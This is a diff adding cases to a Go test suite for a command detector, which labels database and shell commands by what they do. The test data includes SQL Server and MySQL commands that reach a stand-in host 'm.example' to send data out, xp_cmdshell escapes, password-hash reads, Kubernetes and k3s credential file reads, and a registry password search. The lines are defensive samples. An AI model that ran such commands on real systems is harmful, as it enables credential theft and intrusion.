@@ -83,6 +83,15 @@ func TestDatabases(t *testing.T) {
 		`mongosh --eval 'db.adminCommand({shutdown: 1})'`:                                                         empty,
 		`mongosh --eval 'db.u.aggregate([{$out: "t"}])'`:                                                          empty,
 		`mongosh --eval 'db.u.find({a: 1})'`:                                                                      0,
+		`RESTORE DATABASE d FROM DISK = '\\m.example\s\x'`:                                                        sends,
+		`sqlcmd -Q "RESTORE DATABASE d FROM DISK = 'D:\x.bak'"`:                                                   0,
+		`sqlcmd -Q "EXEC master..xp_dirtree '//m.example/a'"`:                                                     sends,
+		`sqlcmd -Q "select 1 from openquery(l, 'select 1; exec master..xp_cmdshell ''dir''')"`:                    escape,
+		`sqlcmd -Q "EXEC ('DROP TABLE t') AT l"`:                                                                  empty,
+		`sqlcmd -Q "SELECT name, password FROM master..sysxlogins"`:                                               reads,
+		`mysql -e "LOAD DATA INFILE '\\\\m.example\\a' INTO TABLE t"`:                                             sends,
+		`mysql -e "SELECT 'it''s; DROP TABLE t'"`:                                                                 0,
+		`EXECUTE IMMEDIATE 'create or replace java source named "U" as x'`:                                        escape,
 		`cypher-shell -u neo4j "MATCH (n) DETACH DELETE n"`:                                                       empty,
 		`cypher-shell "MATCH (n:Person) DETACH DELETE n"`:                                                         empty,
 		`cypher-shell "MATCH (n:Person {id: 1}) DETACH DELETE n"`:                                                 0,
@@ -96,6 +105,43 @@ func TestDatabases(t *testing.T) {
 		`echo "MATCH (n) DETACH DELETE n" | cypher-shell`:                                                         empty,
 		`curl -X POST es:9200/i/_delete_by_query -d '{"query":{"match_all":{}}}'`:                                 empty,
 		`curl -X POST es:9200/i/_delete_by_query -d '{"query":{"term":{"id":1}}}'`:                                0,
+	} {
+		got := does(d, text) &^ detector.Opaque
+		if want == 0 && got != 0 || got&want != want {
+			t.Errorf("%q: %v, want %v", text, got.Words(), want.Words())
+		}
+	}
+}
+
+// TestAccounts checks passwords that are set, and credentials of clusters and of Windows.
+func TestAccounts(t *testing.T) {
+	const (
+		reads  = detector.CredentialRead
+		access = detector.Persistence
+		escape = detector.PrivilegeEscalation
+	)
+	d := New(nil)
+	for text, want := range map[string]detector.Set{
+		"(echo a; echo a) | passwd ann":                             access,
+		"passwd ann <<< $'a\\na'":                                   access,
+		"passwd ann":                                                0,
+		"passwd -S ann":                                             0,
+		"cat /etc/kubernetes/admin.conf":                            reads,
+		"cat /etc/rancher/k3s/k3s.yaml":                             reads,
+		"cp /etc/kubernetes/pki/ca.key x":                           reads,
+		"cat /var/lib/rancher/k3s/server/node-token":                reads,
+		"cat /etc/kubernetes/pki/ca.crt":                            0,
+		"kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes": 0,
+		`curl -k -H "Authorization: Bearer $T" https://k/api/v1/namespaces/x/secrets`: reads,
+		"curl https://k/api/v1/secrets?limit=5":                                       reads,
+		"curl https://k/api/v1/namespaces/x/pods":                                     0,
+		"curl https://docs.example/secrets/api":                                       0,
+		"reg query HKLM /f password /t REG_SZ /s":                                     reads,
+		`reg query HKLM\Software\X /v Version`:                                        0,
+		"chroot /host-system bash":                                                    escape,
+		"chroot /mnt bash":                                                            0,
+		"Get-Process x | Stop-Process":                                                detector.Kill,
+		"Stop-Process -Id 4 -WhatIf":                                                  0,
 	} {
 		got := does(d, text) &^ detector.Opaque
 		if want == 0 && got != 0 || got&want != want {
